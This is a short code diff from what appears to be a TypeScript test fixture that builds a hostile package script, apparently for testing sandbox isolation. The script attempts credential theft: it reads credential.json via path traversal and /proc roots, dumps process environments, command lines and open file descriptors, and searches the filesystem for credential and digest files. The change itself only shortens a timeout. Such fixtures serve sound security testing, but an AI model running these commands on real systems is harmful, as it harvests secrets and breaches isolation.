@@ -19,7 +19,7 @@ export function hostilePackage({ folder, serverPort, marker }: Surroundings): Re
       cat ${folder}/credential.json ../../../../..${folder}/credential.json /proc/*/root${folder}/credential.json /proc/*/cwd/credential.json
       ls -laR ${folder}
       for p in /proc/[0-9]* /proc/self /proc/thread-self; do
-        tr '\\0' '\\n' <$p/environ; tr '\\0' '\\n' <$p/cmdline; for f in $p/fd/*; do readlink $f; timeout 1 head -c 4096 $f </dev/null; done
+        tr '\\0' '\\n' <$p/environ; tr '\\0' '\\n' <$p/cmdline; for f in $p/fd/*; do readlink $f; timeout 0.1 head -c 4096 $f </dev/null; done
       done
       find / -name 'credential*' -not -path '/usr/*' -not -path '/proc/*'
       find / -name 'attempt.json' -o -name 'allowed-digests' -not -path '/proc/*'
